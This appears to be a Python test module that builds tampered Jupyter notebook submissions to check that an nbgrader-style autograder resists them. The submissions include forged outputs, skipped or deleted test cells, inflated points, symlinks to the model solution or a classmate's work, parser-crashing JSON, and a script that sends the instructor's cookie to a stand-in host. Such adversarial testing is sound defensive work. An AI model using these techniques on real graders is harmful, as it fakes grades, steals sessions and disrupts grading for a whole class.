"""Notebooks with tampered structure: tags, ids, metadata, order, number and outputs of cells; files that are none."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

from .attack import PAINT, SIZE, WRONG, Attack, Places, code

FULL_MARKS = [
    {
        "output_type": "execute_result",
        "data": {"text/plain": "2.0"},
        "metadata": {},
        "execution_count": 1,
    }
]


def _of(notebook: dict, id: str) -> dict:
    (found,) = [cell for cell in notebook["cells"] if cell["id"] == id]
    return found


def _tests(notebook: dict) -> list[dict]:
    return [cell for cell in notebook["cells"] if cell["id"].startswith("test-")]


def skip_tags(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "nbval-skip", "remove-cell"]
        cell["outputs"] = FULL_MARKS
    return notebook


def forged_outputs(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = FULL_MARKS, 1
    return notebook


def edited_tests(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["source"] = "2.0"
    return notebook


def deleted_tests(notebook: dict) -> dict:
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].startswith("test-")]
    return notebook


def tests_as_text(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["cell_type"] = "raw"
    return notebook


def more_points(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {
                "points": 1000,
                "locked": False,
                "grade": True,
                "checksum": "0" * 32,
            }
    return notebook


def not_graded(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"] |= {"grade": False, "solution": True, "points": -5, "locked": False}
    return notebook


def swapped_ids(notebook: dict) -> dict:
    paint, size = (_of(notebook, f"test-{name}") for name in (PAINT, SIZE))
    for key in ("id", "metadata"):
        paint[key], size[key] = size[key], paint[key]
    return notebook


def one_id_for_all(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        cell["id"] = f"test-{PAINT}"
        cell["metadata"]["nbgrader"] = copy.deepcopy(_NBGRADER) | {"grade_id": f"test-{PAINT}"}
    return notebook


_NBGRADER = {
    "schema_version": 3,
    "grade": True,
    "solution": False,
    "locked": True,
    "task": False,
    "points": 2,
}


def answer_under_the_tests_id(notebook: dict) -> dict:
    """An answer cell that calls itself the test: is it run, in place of ours?"""
    _of(notebook, PAINT)["metadata"]["nbgrader"]["grade_id"] = f"test-{PAINT}"
    _of(notebook, PAINT)["source"] += "\n2.0"
    del notebook["cells"][notebook["cells"].index(_of(notebook, f"test-{PAINT}"))]
    return notebook


def many_tests(notebook: dict) -> dict:
    """Points are summed over the cells that carry them."""
    for test in _tests(notebook):
        place = notebook["cells"].index(test)
        notebook["cells"][place:place] = [copy.deepcopy(test) | {"outputs": FULL_MARKS} for _ in range(40)]
    return notebook


def invented_exercises(notebook: dict) -> dict:
    for number in range(20):
        cell = code("2.0", nbgrader=_NBGRADER | {"grade_id": f"bonus-{number}", "points": 10})
        notebook["cells"].append(cell | {"id": f"bonus-{number}", "outputs": FULL_MARKS})
    return notebook


def essay_for_an_exercise(notebook: dict) -> dict:
    """The essay's cell is code that defines the answer under the essay's mark, and carries its own grade."""
    essay = _of(notebook, "why")
    essay["metadata"]["nbgrader"] |= {"points": 100, "score": 100, "manual_score": 100}
    essay |= {
        "cell_type": "code",
        "outputs": FULL_MARKS,
        "execution_count": 1,
        "source": WRONG[PAINT] + "2.0",
    }
    return notebook


def reversed_order(notebook: dict) -> dict:
    notebook["cells"].reverse()
    return notebook


def tests_first(notebook: dict) -> dict:
    tests = _tests(notebook)
    rest = [cell for cell in notebook["cells"] if cell not in tests]
    notebook["cells"] = [*tests, *rest]
    return notebook


def no_metadata(notebook: dict) -> dict:
    """Nothing is left to recognise the cells by, and each answer stands twice: a stub for readers, a wrong one."""
    for number, cell in enumerate(notebook["cells"]):
        cell["id"], cell["metadata"] = f"c{number}", {}
    notebook["cells"] += [code(source) | {"id": f"again-{name}"} for name, source in WRONG.items()]
    return notebook


def other_chapter(notebook: dict) -> dict:
    """Judged by the exercises of the chapter that the submission names: one of the learner's own making."""
    notebook["metadata"] |= {"dlcv": {"chapter": "mine"}, "kernelspec": {"name": "bash", "language": "bash"}}
    source = (
        "import sys, types\n"
        "sys.modules['dlcv.mine'] = sys.modules['dlcv.mine.exercises'] = types.ModuleType('dlcv.mine')\n"
    )
    notebook["cells"].insert(1, code(source) | {"id": "mine"})
    for cell in notebook["cells"]:
        cell["metadata"]["dlcv"] = {"role": "experiment", "name": cell["id"]}
    return notebook


def old_format(notebook: dict) -> bytes:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["input"] = cell.pop("source")
            cell["outputs"] = FULL_MARKS
    sheets = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{"cells": notebook["cells"]}],
        "metadata": {},
    }
    return json.dumps(sheets).encode()


def odd_types(notebook: dict) -> dict:
    """Every field is of a type that nobody expects."""
    notebook["cells"] += [
        {"cell_type": ["code"], "source": {"a": 1}, "metadata": [], "id": 7, "outputs": "x"},
        {"cell_type": "code", "source": [None, 3, ["x"]], "metadata": {"nbgrader": 5}, "outputs": [None, 4]},
        {"cell_type": "code", "source": "1", "metadata": {"nbgrader": {"grade_id": [f"test-{PAINT}"]}}},
        {"cell_type": "code", "source": "1", "metadata": {}, "outputs": [{"output_type": {}, "data": 3}]},
        {"cell_type": "code", "source": "\ud800 = 1", "metadata": {}, "id": "\ud800"},
        None,
        3,
    ]
    notebook["metadata"] = {"kernelspec": "python", "dlcv": None}
    notebook["nbformat"] = "four"
    return notebook


def deep_json(notebook: dict) -> bytes:
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def junk_cells(notebook: dict) -> dict:
    """Cells that look a little like ours, among which ours are to be found by likeness."""
    junk = [
        code(f"def conv_transpose1d_{n}(x, weight, stride=1):\n" + f"    y{n} = x * weight + stride\n" * 120)
        for n in range(400)
    ]
    notebook["cells"] = [cell | {"id": f"junk-{n}"} for n, cell in enumerate(junk)]
    return notebook


def giant_cell(notebook: dict) -> dict:
    """Below the answer stand a hundred thousand statements, for whoever reads the source."""
    _of(notebook, PAINT)["source"] += "a = 1\n" * 100_000
    return notebook


def scripts(notebook: dict) -> dict:
    """Outputs and text that would run in the browser of the person who opens the autograded notebook."""
    script = "<script>fetch('http://127.0.0.1/?' + document.cookie)</script><img src=x onerror=alert(1)>"
    shown = {
        "text/html": script,
        "application/javascript": "alert(1)",
        "image/svg+xml": f"<svg>{script}</svg>",
    }
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": shown, "metadata": {}}]
    _of(notebook, "why")["source"] = script
    return notebook


def link_to_the_solution(path: Path, places: Places) -> None:
    (source,) = places["course"].glob("source/*/*.ipynb")
    path.symlink_to(source)


def link_to_a_neighbour(path: Path, places: Places) -> None:
    os.symlink(places["course"] / "submitted" / "ada" / path.parent.name / path.name, path)


def pipe(path: Path, places: Places) -> None:
    """Whoever opens it waits for ever."""
    os.mkfifo(path)


TAKEN_AS_OURS = r"graded with ours|put back|judged below|occurs"
ABSENT = ("not attempted", "crashed", "wrong values")

ATTACKS = [
    Attack("notebooks-skip-tags", "nbgrader skips a tagged test cell and takes the output that is there: full marks.",
           notebook=skip_tags),
    Attack("notebooks-forged-outputs", "Stored outputs are read as if they came from this run.",
           notebook=forged_outputs),
    Attack("notebooks-edited-tests", "A test cell that says 2.0 is worth two points.",
           notebook=edited_tests, flag="had been edited: graded with ours"),
    Attack("notebooks-deleted-tests", "What is not tested is not wrong; or the batch stops for everybody.",
           notebook=deleted_tests, flag="was missing: put back"),
    Attack("notebooks-tests-as-text", "A test that is no code is not run, and its old output stands.",
           notebook=tests_as_text, flag="had been made a raw cell"),
    Attack("notebooks-more-points", "Points are read from the submission's own metadata.", notebook=more_points),
    Attack("notebooks-not-graded", "A test cell that says it is no test is not graded: nothing is lost.",
           notebook=not_graded),
    Attack("notebooks-swapped-ids", "The easy exercise's verdict is booked as that of the hard one.",
           notebook=swapped_ids, flag="had been edited"),
    Attack("notebooks-one-id-for-all", "Duplicate ids abort nbgrader's batch for the whole class.",
           notebook=one_id_for_all, paint=ABSENT, size=ABSENT, flag="occurs 11 times"),
    Attack("notebooks-answer-as-test", "The learner's own cell is executed as the test.",
           notebook=answer_under_the_tests_id, paint=ABSENT, flag="had been edited: graded with ours"),
    Attack("notebooks-many-tests", "Forty copies of a test cell carry forty times its points.",
           notebook=many_tests, flag="occurs 41 times"),
    Attack("notebooks-invented-exercises", "Graded cells that the release does not know add to the score.",
           notebook=invented_exercises),
    Attack("notebooks-essay", "A grade written into the essay's metadata is taken for a human's.",
           notebook=essay_for_an_exercise, flag="had been made a code cell"),
    Attack("notebooks-reversed", "Tests that run before anything is defined meet an older definition, or nothing.",
           notebook=reversed_order, paint=ABSENT, size=ABSENT, flag="judged below it"),
    Attack("notebooks-tests-first", "The same with the tests on top.", notebook=tests_first, flag="judged below it"),
    Attack("notebooks-no-metadata", "nbgrader gives no score and no error where metadata is gone.",
           notebook=no_metadata, flag="recognised otherwise"),
    Attack("notebooks-other-chapter", "The submission says which exercises it is judged by: its own.",
           notebook=other_chapter),
    Attack("notebooks-old-format", "A conversion on the way keeps outputs and drops what grading needs.",
           notebook=old_format),
    Attack("notebooks-odd-types", "One field of an unexpected type, and the batch ends with a traceback.",
           notebook=odd_types),
    Attack("notebooks-deep-json", "Two hundred thousand brackets end the grader's parser.",
           notebook=deep_json, paint=("crashed",), size=("crashed",), flag="not a notebook"),
    Attack("notebooks-junk", "Matching hundreds of odd cells by likeness takes the trusted side for ever.",
           notebook=junk_cells, paint=ABSENT, size=ABSENT, flag="put back"),
    Attack("notebooks-giant-cell", "Reading the source takes minutes and gigabytes on the trusted side.",
           notebook=giant_cell, paint=(*ABSENT, "too slow"), flag=r"\blong|\blarge",),
    Attack("notebooks-scripts", "A script in an output runs in the instructor's browser, beside the formgrader.",
           notebook=scripts),
    Attack("notebooks-link-to-solution", "A link in place of a notebook: the model solution is graded, full marks.",
           file=link_to_the_solution, paint=("crashed",), size=("crashed",),
    ),
    Attack("notebooks-link-to-neighbour", "A link to another submission: the neighbour's marks.",
           file=link_to_a_neighbour, paint=("crashed",), size=("crashed",),
    ),
    Attack("notebooks-pipe", "A named pipe in place of the notebook: the grader waits for ever.",
           file=pipe, paint=("crashed",), size=("crashed",)),
]  # fmt: skip
